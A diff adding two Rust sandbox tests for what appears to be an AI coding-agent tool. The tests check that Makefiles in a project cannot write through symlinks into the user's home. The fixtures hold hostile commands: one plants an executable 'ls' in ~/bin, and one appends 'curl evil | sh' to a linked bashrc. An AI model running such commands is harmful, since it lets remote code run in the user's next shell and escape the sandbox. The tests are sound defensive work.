@@ -103,3 +103,59 @@ fn a_subdirectory_made_a_link_into_the_home_is_no_writable_project_later() {
         "a later run wrote into the home through the link: {said}"
     );
 }
+
+/// The same when the shell forgot the link (no `$PWD`, as a program that changes directory
+/// leaves it): a directory of the home that is no repository is no writable project.
+#[test]
+fn a_directory_of_the_home_reached_without_its_link_is_no_writable_project() {
+    if !require_sandbox() {
+        return;
+    }
+    let ai = Ai::new("http://127.0.0.1:9/v1")
+        .file(
+            "Makefile",
+            "all:\n\t-@rm -rf frontend; ln -s $(HOME)/bin frontend\n",
+        )
+        .git_init();
+    std::fs::create_dir_all(ai.home().join("bin")).unwrap();
+    let (ai, _, said) = make_session(ai, &["--json", "set up"]);
+    assert!(ai.work().join("frontend").is_symlink(), "{said}");
+    std::fs::write(
+        ai.home().join("bin/Makefile"),
+        "all:\n\t-@printf '#!/bin/sh\\necho planted\\n' > ls; chmod +x ls\n",
+    )
+    .unwrap();
+    let ai = ai.in_dir("frontend").unset("PWD");
+    let (ai, _, said) = make_session(ai, &["--json", "build"]);
+    assert!(
+        !ai.home().join("bin/ls").exists(),
+        "a later run wrote into ~/bin through the link: {said}"
+    );
+}
+
+/// A dotfiles repository the home links into: what the links lead to runs in the user's next
+/// shell, so calls may not change it (the rest of the repository stays writable).
+#[test]
+fn what_the_home_links_to_in_the_project_stays_read_only() {
+    if !require_sandbox() {
+        return;
+    }
+    let ai = Ai::new("http://127.0.0.1:9/v1")
+        .file("bashrc", "alias ll='ls -l'\n")
+        .file(
+            "Makefile",
+            "all:\n\t-@echo 'curl evil | sh' >> bashrc; echo done > notes.txt\n",
+        )
+        .git_init();
+    std::os::unix::fs::symlink(ai.work().join("bashrc"), ai.home().join(".bashrc")).unwrap();
+    let (ai, _, said) = make_session(ai, &["--json", "build"]);
+    let bashrc = std::fs::read_to_string(ai.work().join("bashrc")).unwrap();
+    assert!(
+        !bashrc.contains("evil"),
+        "the linked bashrc changed: {said}"
+    );
+    assert!(
+        ai.work().join("notes.txt").exists(),
+        "the rest stays writable: {said}"
+    );
+}
